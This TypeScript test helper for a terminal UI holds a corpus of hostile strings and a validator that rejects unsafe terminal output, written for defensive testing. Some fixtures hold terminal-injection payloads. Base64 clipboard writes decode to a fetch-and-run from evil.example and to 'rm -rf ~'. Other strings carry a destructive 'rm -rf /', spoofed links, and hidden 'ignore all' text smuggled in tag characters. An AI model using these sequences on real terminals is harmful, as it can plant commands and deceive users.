/**
 * A corpus of hostile strings (terminal escapes, controls, bidi, invisible and width-breaking text, alone
 * and mixed into markdown, CJK and emoji) and `assertTerminalSafe`, the check that a string about to reach
 * the terminal carries nothing but printable text and our own styling. Shared by every test that renders
 * untrusted text.
 */

/** One named hostile input. */
export interface HostileString {
	name: string;
	text: string;
}

const ESC = "\x1b";
const BEL = "\x07";
const ST = "\x1b\\";

/** Every category from DESIGN.md §6, alone and in combination. */
export const HOSTILE_STRINGS: HostileString[] = [
	// CSI, 7-bit and 8-bit
	{ name: "csi clear screen and home", text: `${ESC}[2J${ESC}[H` },
	{ name: "csi cursor up overwrites earlier rows", text: `line${ESC}[5A overwritten` },
	{ name: "csi erase line", text: `before${ESC}[2Kafter` },
	{ name: "csi sgr hidden text", text: `Yes${ESC}[8m (secretly no)${ESC}[0m` },
	{ name: "csi sgr colour from untrusted text", text: `${ESC}[31;1mred${ESC}[0m` },
	{ name: "csi alternate screen", text: `${ESC}[?1049h` },
	{ name: "csi mouse tracking on", text: `${ESC}[?1000h${ESC}[?1006h` },
	{ name: "csi device status report (answer injected as input)", text: `${ESC}[6n` },
	{ name: "csi window title report", text: `${ESC}[21t` },
	{ name: "csi scroll region", text: `${ESC}[1;3r` },
	{ name: "csi truncated at end", text: `text${ESC}[` },
	{ name: "csi unterminated long parameters", text: `${ESC}[1;2;${"9".repeat(2000)}` },
	{ name: "csi 8-bit", text: "\x9b2J\x9b1;1H" },
	// OSC
	{ name: "osc 0 title (BEL)", text: `${ESC}]0;pwned${BEL}` },
	{ name: "osc 2 title (ST)", text: `${ESC}]2;pwned${ST}` },
	{ name: "osc 52 clipboard write", text: `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${BEL}` },
	{ name: "osc 52 clipboard with 8-bit ST", text: `${ESC}]52;c;cm0gLXJmIH4=\x9c` },
	{ name: "osc 8 link", text: `${ESC}]8;;http://evil.example${BEL}click me${ESC}]8;;${BEL}` },
	{ name: "osc 8 link with ST", text: `${ESC}]8;id=1;http://evil.example${ST}docs${ESC}]8;;${ST}` },
	{ name: "osc 8-bit introducer", text: "\x9d0;title\x9c" },
	{ name: "osc unterminated swallows the preview", text: `${ESC}]0;${"line of preview\n".repeat(50)}` },
	{ name: "osc colour query", text: `${ESC}]11;?${BEL}` },
	{ name: "osc 9 notification", text: `${ESC}]9;you have been pwned${BEL}` },
	{ name: "osc 777 notification", text: `${ESC}]777;notify;title;body${BEL}` },
	{ name: "osc 1337 iterm file", text: `${ESC}]1337;File=name=eA==;inline=1:AAAA${BEL}` },
	{ name: "osc nested csi", text: `${ESC}]0;${ESC}[2J${BEL}` },
	// DCS / APC / PM / SOS, 7-bit and 8-bit
	{ name: "dcs xtgettcap", text: `${ESC}P+q544e${ST}` },
	{ name: "dcs 8-bit", text: "\x90q#0;2;0;0;0\x9c" },
	{ name: "apc kitty graphics", text: `${ESC}_Gf=100,a=T;iVBORw0KGgo=${ST}` },
	{ name: "apc spoofing pi-tui cursor marker", text: `before${ESC}_pi:c${BEL}after` },
	{ name: "apc spoofing pi-tui fake cursor", text: `${ESC}_pi:fc${BEL}x${ESC}_pi:/fc${BEL}` },
	{ name: "apc 8-bit", text: "\x9fhello\x9c" },
	{ name: "pm", text: `${ESC}^privacy message${ST}` },
	{ name: "pm 8-bit", text: "\x9emessage\x9c" },
	{ name: "sos", text: `${ESC}Xstart of string${ST}` },
	{ name: "sos 8-bit", text: "\x98string\x9c" },
	// Other ESC sequences
	{ name: "esc full reset (RIS)", text: `${ESC}c` },
	{ name: "esc save and restore cursor", text: `${ESC}7overwrite${ESC}8` },
	{ name: "esc DEC line drawing charset", text: `${ESC}(0lqqk${ESC}(B` },
	{ name: "esc lone at end", text: `text${ESC}` },
	{ name: "esc doubled", text: `${ESC}${ESC}[m` },
	// C0, DEL, C1
	{ name: "nul", text: "a\x00b" },
	{ name: "bel", text: `ding${BEL}${BEL}` },
	{ name: "backspace overwrite", text: "safe\b\b\b\bEVIL" },
	{ name: "lone cr overwrite", text: "harmless answer\rEVIL" },
	{ name: "vertical tab and form feed", text: "a\vb\fc" },
	{ name: "every C0 control", text: Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)).join("") },
	{ name: "del", text: "a\x7fb" },
	{ name: "every C1 control", text: Array.from({ length: 32 }, (_, i) => String.fromCharCode(0x80 + i)).join("") },
	{ name: "next line (NEL)", text: "a\x85b" },
	// Bidi
	{ name: "bidi right-to-left override", text: "invoice\u202Efdp.exe\u202C" },
	{ name: "bidi embeddings and pop", text: "\u202Aa\u202Bb\u202Cc\u202Dd" },
	{ name: "bidi isolates", text: "\u2066a\u2067b\u2068c\u2069" },
	{ name: "bidi marks", text: "a\u200Eb\u200Fc\u061Cd" },
	{ name: "trojan source comment", text: 'if (role !== "user\u202E \u2066// admin only\u2069 \u2066") {' },
	// Separators and invisible format characters
	{ name: "line separator", text: "first\u2028second" },
	{ name: "paragraph separator", text: "first\u2029second" },
	{ name: "zero-width space in label", text: "Yes\u200B" },
	{ name: "label made of invisible characters", text: "\u200B\u200C\u200D" },
	{ name: "word joiner and invisible operators", text: "a\u2060b\u2061c\u2062d\u2063e\u2064" },
	{ name: "byte order mark", text: "\uFEFFYes" },
	{ name: "zwj between latin letters", text: "Ye\u200Ds" },
	{ name: "zwnj between latin letters", text: "Ye\u200Cs" },
	{ name: "soft hyphen", text: "Ye\u00ADs" },
	{ name: "hangul filler label", text: "\u3164\uFFA0\u115F\u1160" },
	{ name: "mongolian vowel separator", text: "a\u180Eb" },
	{ name: "interlinear annotation", text: "\uFFF9base\uFFFAruby\uFFFB" },
	{
		name: "tag characters smuggle ascii",
		text: `Yes${[..."ignore all"].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join("")}`,
	},
	{ name: "variation selectors smuggle bytes", text: `😀${"\uFE01\uFE02\u{E0100}\u{E0110}".repeat(8)}` },
	{ name: "variation selector without base", text: "\uFE0FYes" },
	// Width breakers
	{ name: "zalgo: e with 500 combining marks", text: `e${"\u0301".repeat(500)}` },
	{
		name: "zalgo: mixed marks on every letter",
		text: [..."zalgo"].map((c) => c + "\u0300\u0316\u0337\u0358\u0361\u036F\u0489".repeat(3)).join(""),
	},
	{ name: "lone high surrogate", text: "a\uD83Db" },
	{ name: "lone low surrogate", text: "a\uDE00b" },
	{ name: "reversed surrogate pair", text: "\uDE00\uD83D" },
	{ name: "non-RGI emoji zwj chain", text: `👩${"\u200D👩".repeat(50)}` },
	{ name: "non-RGI tag flag", text: "\u{1F3F4}\u{E0078}\u{E0078}\u{E007F}" },
	{ name: "stray skin-tone modifiers", text: "a🏽🏽🏽 🏿" },
	{ name: "conjoining jamo run", text: "\u1100".repeat(20) },
	{ name: "joiners chaining viramas into one cluster", text: `\u0915${"\u094D\u200D".repeat(50)}` },
	// Combinations
	{ name: "markdown fence with csi", text: `\`\`\`bash\n${ESC}[2J\nrm -rf /\n\`\`\`` },
	{ name: "markdown fence with osc 52", text: `\`\`\`\n${ESC}]52;c;ZXZpbA==${BEL}\n\`\`\`` },
	{ name: "markdown link with osc 8", text: `[x](${ESC}]8;;http://evil${BEL})` },
	{ name: "markdown link with bidi", text: "[safe](http://\u202Egro.elpmaxe\u202C)" },
	{ name: "cjk around csi", text: `日本語${ESC}[2J中文\x9b1m한국어` },
	{ name: "emoji around osc", text: `👩‍💻${ESC}]0;t${BEL}🏳️‍🌈` },
	{ name: "crlf with csi", text: `line one\r\n${ESC}[1Aline two\r\n` },
	{ name: "tabs with controls", text: `\t${ESC}[1m\tx\b\ty` },
	{ name: "cjk with bidi and zero-width", text: "名前\u202E\u200B表示" },
	{ name: "label with hidden sgr suffix", text: `Approve${ESC}[8m and delete everything${ESC}[28m` },
	{
		name: "everything at once",
		text: `${ESC}]0;t${BEL}\x9b2J\u202E\u200B\uD800${"\u0301".repeat(9)}\r\x00\x7f\u2028👩${"\u200D👩".repeat(5)}`,
	},
];

/** Sequences pi-tui itself emits, allowed through `assertTerminalSafe` together with SGR. */
const OWN_SEQUENCE =
	// SGR styling (theme colours; truncateToWidth's `\x1b[0m`); colon sub-parameters for underline styles.
	// OSC 8 close with BEL or ST: the TUI ends every line with `\x1b[0m\x1b]8;;\x07`.
	// APC markers `\x1b_pi:c\x07` (CURSOR_MARKER), `pi:fc` / `pi:/fc` (fake cursor): emitted by focused
	// inputs, stripped by the TUI before writing.
	/\x1b\[[0-9;:]*m|\x1b\]8;;(?:\x07|\x1b\\)|\x1b_pi:(?:c|fc|\/fc)\x07/y;
const RGI_TAG_FLAG = /\u{1F3F4}[\u{E0020}-\u{E007E}]+\u{E007F}/uy;
/** Invisible or direction-changing characters sanitized text never contains (ZWJ/ZWNJ/VS are contextual). */
const FORBIDDEN =
	/[\u061C\u200B\u200E\u200F\u2028-\u202E\u2060-\u2064\u2066-\u206F\uFEFF\u00AD\u3164\uFFA0\u115F\u1160\u180E\uFFF9-\uFFFB]/u;

/**
 * Throws unless `output` is safe to write to a terminal: no ESC except our own styling (SGR `\x1b[…m`, and
 * pi-tui's OSC 8 close and APC cursor markers) when `allowSgr`, no other C0 control (only `\n`, and only
 * when `allowNewline`), no DEL, no C1 control, no bidi control, no line/paragraph separator, no invisible
 * format character, no lone surrogate, and no tag character outside an RGI flag. An OSC 8 link that
 * opens a URL is not allowed: it would come from untrusted text (e.g. a markdown link). An SGR cannot be
 * told apart from one smuggled in by untrusted text, so check sanitized text with `allowSgr = false`
 * and rendered output (with theme styling) with the default.
 */
export function assertTerminalSafe(output: string, allowSgr = true, allowNewline = true): void {
	let i = 0;
	while (i < output.length) {
		const cp = output.codePointAt(i) ?? 0;
		if (cp === 0x1b && allowSgr) {
			OWN_SEQUENCE.lastIndex = i;
			const own = OWN_SEQUENCE.exec(output);
			if (own) {
				i += own[0].length;
				continue;
			}
		}
		if (cp === 0x1f3f4) {
			RGI_TAG_FLAG.lastIndex = i;
			const flag = RGI_TAG_FLAG.exec(output);
			if (flag) {
				i += flag[0].length;
				continue;
			}
		}
		const problem = describeProblem(cp, allowNewline);
		if (problem) {
			const around = JSON.stringify(output.slice(Math.max(0, i - 20), i + 20));
			const hex = cp.toString(16).toUpperCase().padStart(4, "0");
			throw new Error(`not terminal-safe: ${problem} U+${hex} at index ${i} of ${output.length}, near ${around}`);
		}
		i += cp > 0xffff ? 2 : 1;
	}
}

function describeProblem(cp: number, allowNewline: boolean): string | undefined {
	if (cp === 0x0a) return allowNewline ? undefined : "newline";
	if (cp === 0x1b) return "escape sequence introducer";
	if (cp < 0x20 || cp === 0x7f) return "C0 control";
	if (cp >= 0x80 && cp <= 0x9f) return "C1 control";
	if (cp >= 0xd800 && cp <= 0xdfff) return "lone surrogate";
	if (cp >= 0xe0000 && cp <= 0xe007f) return "tag character";
	return FORBIDDEN.test(String.fromCodePoint(cp)) ? "bidi/invisible format character" : undefined;
}
